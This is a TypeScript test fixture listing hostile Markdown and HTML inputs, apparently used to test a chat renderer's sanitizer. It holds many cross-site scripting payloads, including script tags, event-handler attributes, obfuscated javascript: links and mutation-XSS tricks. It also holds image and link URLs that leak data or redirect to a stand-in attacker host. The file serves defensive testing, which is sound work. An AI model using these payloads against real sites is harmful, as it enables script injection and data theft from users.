/** Markdown written to do harm (threats T-01…T-03), used by the tests. */

const SCRIPTS = [
  "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>", "<img src=https://evil.example/p.png>", '<img/src="x"/onerror=alert(1)>', "<IMG SRC=`javascript:alert(1)`>",
  "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>", "<math href='javascript:alert(1)'>x</math>",
  "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='data:text/html,x'></object>",
  "<embed src='https://evil.example/x.swf'>", "<a href='javascript:alert(1)'>x</a>", "<a href=//evil.example>x</a>", "<a href='https://evil.example' onclick=alert(1)>x</a>",
  "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
  "<input onfocus=alert(1) autofocus>", "<form action='https://evil.example'><input name=a></form>", "<button formaction='javascript:alert(1)'>x</button>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>*{background:url(https://evil.example)}</style>", "<p style='background:url(https://evil.example)'>x</p>", "<div style=\"position:fixed;inset:0\">x</div>",
  "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><x/>", "<ck-message onclick=alert(1)></ck-message>", "<slot name=x></slot>", "<marquee onstart=alert(1)>x</marquee>",
];

const LINKS = [
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](java&#x09;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](JaVa&#115;cript:alert(1))",
  "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](javascript://%0aalert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)", "[x](http://evil.example/plain)", "[x](//evil.example)", "[x](/relative)", "[x](?a=b)",
  "[x](https://evil.example\" onmouseover=\"alert(1))", "[x](https://evil.example 'a\" onmouseover=\"alert(1)')", "[x](https://a@evil.example)", "[https://good.example](https://evil.example)",
  "[\u202eelpmaxe.live](https://evil.example)", "<javascript:alert(1)>", "<https://evil.example/<script>>", "https://evil.example/\"onmouseover=alert(1)", "[[x](javascript:alert(1))](javascript:alert(2))",
  "[x][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: data:text/html,x", "[![x](javascript:alert(1))](javascript:alert(2))", "[a](javascript:alert(1) \"t\")", "**[x](javascript:alert(1))**", "| a |\n|---|\n| [x](javascript:alert(1)) |",
  "- [x](javascript:alert(1))", "> [x](javascript:alert(1))", "# [x](javascript:alert(1))", "[x](mailto:a@b.c?body=<script>)", "[x](tel:123)", "[x](chatkit-link:go?a=<img>)",
];

const IMAGES = [
  "![x](https://evil.example/?d=secret)", "![x](//evil.example/a.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](http://good.example/a.png)", "![x](https://good.example.evil.example/a.png)",
  "![x](https://good.example@evil.example/a.png)", "![x](https://sub.good.example/a.png)", "![x][r]\n\n[r]: https://evil.example/a.png", "![x](https://evil.example/a.png \"t\\\" onerror=alert(1)\")", "![\" onerror=alert(1) \"](https://evil.example/a.png)",
  "[![x](https://evil.example/a.png)](https://evil.example)", "![x](https://good.example:8443/a.png)", "![![x](https://evil.example/b)](https://evil.example/a)", "<picture><source srcset=https://evil.example/a.png></picture>",
];

const SHAPES = ["```html\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "```<script>\n</script>\n```", "~~~\"onload=alert(1)\n<b>\n~~~", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "1. <script>\n   alert(1)</script>", "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |"];

export const HOSTILE: readonly string[] = [...SCRIPTS, ...LINKS, ...IMAGES, ...SHAPES];
